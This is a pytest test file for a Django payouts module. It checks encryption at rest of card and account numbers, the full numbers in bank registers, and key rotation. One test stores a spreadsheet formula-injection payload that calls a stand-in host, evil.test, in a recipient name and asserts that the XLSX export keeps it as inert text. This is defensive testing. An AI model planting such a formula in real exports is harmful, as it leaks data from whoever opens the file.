"""Card and account numbers are encrypted at rest, readable under every configured key, and
re-encrypted under a new key by the rotation command."""

import csv
import io
from datetime import timedelta
from io import StringIO

import pytest
from cryptography.fernet import Fernet, InvalidToken
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from core.exports import table_csv, table_xlsx
from payouts import bank_files, batches
from payouts.models import PayoutDetails
from tenancy.scope import all_tenants, tenant_scope
from tests.payouts.payout_world import (
    ACCOUNT,
    BIK,
    CARD,
    batch_create,
    card_details,
    clean_slate,
    earn,
    settings_set,
)


def stored(pk: int) -> tuple[str, str]:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT card_number, account_number FROM payouts_payoutdetails WHERE id = %s", [pk]
        )
        return cursor.fetchone()


@pytest.fixture
def world(world_a):
    with tenant_scope(world_a.tenant):
        clean_slate(world_a)
        yield world_a


def test_numbers_are_stored_encrypted_and_read_back_plain(world):
    card = card_details(world.partners[0])
    account = PayoutDetails.objects.create(
        partner=world.partners[1],
        method="account",
        holder_name="ООО Ромашка",
        account_number=ACCOUNT,
        bik=BIK,
        bank_name="Сбербанк",
    )
    raw_card, raw_empty = stored(card.pk)
    assert CARD not in raw_card
    assert raw_empty == ""  # empty stays empty: the check constraints still see it
    assert ACCOUNT not in stored(account.pk)[1]
    # Randomised: the same number encrypts differently each time.
    twin = PayoutDetails.objects.create(
        partner=world.partners[1], method="card", holder_name="Twin", card_number=CARD
    )
    assert stored(twin.pk)[0] != raw_card

    again = PayoutDetails.objects.get(pk=card.pk)
    assert (again.card_number, again.account_number, again.masked) == (CARD, "", "•••• 1111")
    assert PayoutDetails.objects.get(pk=account.pk).account_number == ACCOUNT


def test_bank_register_carries_the_full_numbers(world):
    settings_set(world, minimum="100.00")
    partner = world.partners[0]
    earn(world, partner, "5000.00", external_id="enc-1")
    details = card_details(partner)
    # Entered long ago, so the line is not held for review after a change of details.
    PayoutDetails.objects.filter(pk=details.pk).update(created_at=timezone.now() - timedelta(60))
    batch = batches.payout_batch_approve(batch=batch_create(world))
    rows = list(csv.DictReader(io.StringIO(table_csv(bank_files.register_table(batch)).decode())))
    assert [(r["partner_code"], r["card_number"], r["amount"]) for r in rows] == [
        (partner.code, CARD, "500.00")
    ]


def test_bank_register_xlsx_holds_a_partners_text_as_text_not_a_formula(world):
    """The recipient's name and bank are the partner's own input: in the XLSX register a name
    starting with "=" (entered before such names were refused) stays a string after a quote,
    not a formula run on the manager's machine; the amount stays a number."""
    settings_set(world, minimum="100.00")
    partner = world.partners[0]
    earn(world, partner, "5000.00", external_id="enc-xlsx")
    evil = '=HYPERLINK("http://evil.test/?"&B2,"Ivan")'
    details = card_details(partner)
    PayoutDetails.objects.filter(pk=details.pk).update(
        holder_name=evil, created_at=timezone.now() - timedelta(60)
    )
    batch = batches.payout_batch_approve(batch=batch_create(world))
    sheet = load_workbook(io.BytesIO(table_xlsx(bank_files.register_table(batch)))).active
    assert isinstance(sheet, Worksheet)
    header = [cell.value for cell in sheet[1]]
    recipient = sheet.cell(row=2, column=header.index("recipient") + 1)
    assert (recipient.value, recipient.data_type) == (f"'{evil}", "s")
    assert sheet.cell(row=2, column=header.index("card_number") + 1).value == CARD
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert (amount.value, amount.data_type, amount.number_format) == (500, "n", "0.00")


def test_rotation_reencrypts_under_the_new_key(world, settings):
    old = settings.PAYOUT_DETAILS_KEYS[0]
    card = card_details(world.partners[0])
    before = stored(card.pk)[0]
    new = Fernet.generate_key().decode()

    with override_settings(PAYOUT_DETAILS_KEYS=[new, old]):
        # Both keys decrypt, so nothing is unreadable between the key change and the rotation.
        assert PayoutDetails.objects.get(pk=card.pk).card_number == CARD
        out = StringIO()
        call_command("payout_details_reencrypt", "--no-progress", stdout=out)
        assert "Re-encrypted the payout details of 1 rows" in out.getvalue()
        after = stored(card.pk)[0]
        assert after != before
        assert Fernet(new.encode()).decrypt(after.encode()).decode() == CARD

    with override_settings(PAYOUT_DETAILS_KEYS=[new]):  # the old key is gone
        assert PayoutDetails.objects.get(pk=card.pk).card_number == CARD
    with (
        override_settings(PAYOUT_DETAILS_KEYS=[Fernet.generate_key().decode()]),
        pytest.raises(InvalidToken),
    ):
        PayoutDetails.objects.get(pk=card.pk)


def test_rotation_reencrypts_every_programs_details_outside_any_scope(world_a, world_b, settings):
    # An operator's command, run with no program in scope: it sees every program's rows
    # through all_tenants() (the row-level security shows none outside a scope).
    cards = []
    for world in (world_a, world_b):
        with tenant_scope(world.tenant):
            clean_slate(world)
            cards.append(card_details(world.partners[0]))
    new = Fernet.generate_key().decode()
    with override_settings(PAYOUT_DETAILS_KEYS=[new, settings.PAYOUT_DETAILS_KEYS[0]]):
        out = StringIO()
        call_command("payout_details_reencrypt", "--no-progress", stdout=out)
    assert "Re-encrypted the payout details of 2 rows" in out.getvalue()
    with all_tenants():
        for card in cards:
            (number, _account) = stored(card.pk)
            assert Fernet(new.encode()).decrypt(number.encode()).decode() == CARD
